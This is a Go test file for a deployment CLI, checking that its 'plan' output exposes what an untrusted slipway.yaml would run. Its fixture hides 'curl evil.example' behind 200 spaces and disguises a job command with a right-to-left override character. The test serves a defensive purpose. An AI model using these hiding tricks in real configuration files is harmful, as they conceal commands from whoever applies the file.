package cli

import (
	"encoding/json"
	"strings"
	"testing"
)

// TestPlanShowsWhatAStrangersFileRuns: whoever applies a slipway.yaml of somebody else's sees all that it starts,
// however it tries to hide that: far to the right, or behind characters that show nothing.
func TestPlanShowsWhatAStrangersFileRuns(t *testing.T) {
	text := sandboxStack + "service:\n  release: \"sh -c 'true" + strings.Repeat(" ", 200) +
		"curl evil.example'\"\n  user: \"101\"\n" +
		"schedule:\n  jobs:\n    - {name: report, command: \"python \\u202Egnp.exe\", cron: \"0 3 * * ? *\"}\n"
	code, out, errs, _ := inSandbox(t, text, "", "plan")
	if code != 0 {
		t.Fatalf("plan ended %d\n%s%s", code, out, errs)
	}
	_, will, found := strings.Cut(out+errs, "WHAT WILL RUN")
	for _, want := range []string{"[200 blanks] curl evil.example", "job report: ", "0 3 * * ? *",
		"registry.example.com/shop:1.0", "123456789012"} {
		if !found || !strings.Contains(will, want) {
			t.Errorf("the plan does not say %q:\n%s", want, will)
		}
	}
	if strings.ContainsRune(out+errs, '\u202e') {
		t.Error("a character that turns the text around is shown as it is")
	}
	code, out, errs, _ = inSandbox(t, text, "", "plan", "--json")
	var p struct {
		Commands []struct{ Step, What, Value, When string }
	}
	if err := json.Unmarshal([]byte(out), &p); err != nil || code != 0 {
		t.Fatalf("plan --json ended %d: %v\n%s", code, err, errs)
	}
	var said []string
	for _, c := range p.Commands {
		said = append(said, c.What)
	}
	if got := strings.Join(said, ", "); got != "account, image, release command, job report" {
		t.Errorf("the commands are %s", got)
	}
	if strings.ContainsRune(out, '\u202e') {
		t.Error("JSON holds the character as it is")
	}
}
